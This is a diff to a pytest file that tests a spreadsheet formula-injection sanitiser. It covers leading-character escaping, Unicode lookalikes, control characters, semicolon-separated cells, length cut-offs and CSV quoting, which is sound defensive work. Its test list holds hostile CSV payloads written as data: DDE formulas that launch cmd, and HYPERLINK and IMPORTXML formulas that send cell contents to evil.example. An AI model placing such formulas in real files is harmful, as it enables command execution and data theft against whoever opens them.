@@ -43,15 +43,70 @@ def test_no_cell_is_a_formula_or_too_long() -> None:
             assert len(cell) <= 32_767
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", " =1", "\t=1", "\r=1", "＝1+1", "\n-1"])
+RUNS = [
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    " =1",
+    "\t=1",
+    "\r=1",
+    "\n-1",
+    "\r\n=1",
+    "\u00a0\u3000=1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "﹦1",
+    "⁼1",
+    "−1",
+    '"=1+1',
+    "'=1+1",
+    " ' \" =1",
+    "=cmd|'/C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example?"&A1,"ok")',
+    '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
+    '=DDE("cmd";"/C calc";"x")',
+]
+
+
+@pytest.mark.parametrize("text", RUNS)
 def test_what_would_run_is_text(text: str) -> None:
     assert _cell(text).startswith("'")
 
 
-@pytest.mark.parametrize("text", ["at least 12", "12 - 3", "“=1”", "'quoted'", "a@b.example"])
+@pytest.mark.parametrize("text", [f"a;{text}" for text in RUNS])
+def test_what_would_run_behind_a_semicolon_is_text(text: str) -> None:
+    assert _cell(text).startswith("a;'")
+
+
+@pytest.mark.parametrize("text", ["\x00=1", "\x0b=1", "\u200b=1", "\ufeff=1", "\u202e=1"])
+def test_what_a_program_may_drop_before_a_formula_is_a_name_that_stays(text: str) -> None:
+    assert _cell(text)[0] in "␀␋<"
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["at least 12", "12 - 3", "“=1”", "'quoted'", '"quoted"', "a@b.example", "one; two", "a;b=1", "5 × -1", "", "— he"],
+)
 def test_what_would_not_run_stays(text: str) -> None:
     assert _cell(text) == text
 
 
-def test_a_cell_is_cut_where_a_spreadsheet_would_cut_it() -> None:
-    assert len(_cell("x" * 100_000)) == CELL_LIMIT
+@pytest.mark.parametrize("text", ["\t", "\r", "\n", "\tsaid", "\r\nsaid"])
+def test_no_cell_begins_with_a_tab_or_a_line_break(text: str) -> None:
+    assert _cell(text) == text.replace("\r\n", " ").replace("\t", " ").replace("\r", " ").replace("\n", " ")
+
+
+@pytest.mark.parametrize("text", ["x", "\u202e", ";=", "=", "'"])
+def test_a_cell_is_cut_where_a_spreadsheet_would_cut_it(text: str) -> None:
+    assert len(_cell(text * 100_000)) == CELL_LIMIT
+
+
+def test_a_quotation_mark_closes_no_cell() -> None:
+    stream = io.StringIO()
+    csv.writer(stream, quoting=csv.QUOTE_ALL).writerow([_cell('a","=1+1'), _cell('=1+2";=1+2')])
+    assert next(csv.reader(io.StringIO(stream.getvalue()))) == ['a","=1+1', "'=1+2\";'=1+2"]
